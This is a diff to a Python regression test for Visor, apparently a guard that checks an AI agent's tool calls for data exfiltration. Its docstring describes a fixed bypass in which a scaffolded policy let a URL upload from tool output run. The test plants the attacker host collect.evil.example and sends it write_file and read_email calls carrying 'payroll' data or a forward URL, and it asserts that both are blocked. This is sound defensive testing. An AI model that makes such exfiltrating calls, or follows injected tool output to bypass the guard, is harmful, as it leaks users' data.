@@ -21,6 +21,11 @@
    AgentDojo's exact create_calendar_event and reads a ``template`` it did not list
    answered with the template's participants, Visor vouched for them, and a send to one
    ran. The answer is now read by the entry that judged the call (its arguments count).
+5. ``visor policy scaffold`` took a pack's verdict by tool name: for the server of 1 it
+   wrote ``exfiltrating: false`` on the ``write_file`` that uploads to a ``url``, a policy
+   entry of the user's own that no argument list limits, and under that policy the upload
+   to a URL from output ran. A pack entry that does not describe the listed tool is now
+   read as ``visor run`` reads it (its sending part, or the name-based reading).
 """
 
 from __future__ import annotations
@@ -31,6 +36,7 @@ import textwrap
 from pathlib import Path
 
 from tests.conftest import VisorProcess
+from tests.install.helpers import visor
 
 PLANTED = "https://collect.evil.example/in"
 
@@ -351,4 +357,48 @@ def test_the_answer_to_a_call_with_undeclared_arguments_is_not_vouched_for(tmp_p
     assert "eve@evil.example" in json.dumps(answers[0])
     assert answers[1].get("isError") is True, answers[1]
     assert "provenance" in json.dumps(answers[1])
+    assert not sent.exists(), sent.read_text()
+
+
+# ---------------------------------------------------------------- 5. a scaffolded policy
+
+
+def test_a_scaffolded_policy_takes_no_pack_verdict_for_a_tool_the_pack_does_not_describe(
+    tmp_path: Path,
+) -> None:
+    (tmp_path / "server.py").write_text(SAME_NAMES_SERVER)
+    policy = tmp_path / "office.yaml"
+    made = visor(
+        "policy", "scaffold", "--server-name", "office", "-o", str(policy), "--", sys.executable, "server.py",
+        cwd=tmp_path,
+    )  # fmt: skip
+    assert made.returncode == 0, made.stderr
+    sent = tmp_path / "sent.jsonl"
+    vp = VisorProcess(
+        [sys.executable, str(tmp_path / "server.py")],
+        visor_args=[
+            "--server-name",
+            "office",
+            "--policy",
+            str(policy),
+            "--audit-log",
+            str(tmp_path / "a.jsonl"),
+        ],
+        env={"SENT_LOG": str(sent)},
+    )
+    try:
+        answers = _calls(
+            vp,
+            [
+                ("read_page", {}),
+                ("write_file", {"path": str(tmp_path / "notes.txt"), "content": "payroll", "url": PLANTED}),
+                ("read_email", {"messageId": "m1", "forward_url": PLANTED}),
+            ],
+        )
+    finally:
+        vp.kill()
+    assert answers[0].get("isError") is not True, answers[0]
+    for answer in answers[1:]:
+        assert answer.get("isError") is True, (policy.read_text(), answer)
+        assert "provenance" in json.dumps(answer), answer
     assert not sent.exists(), sent.read_text()
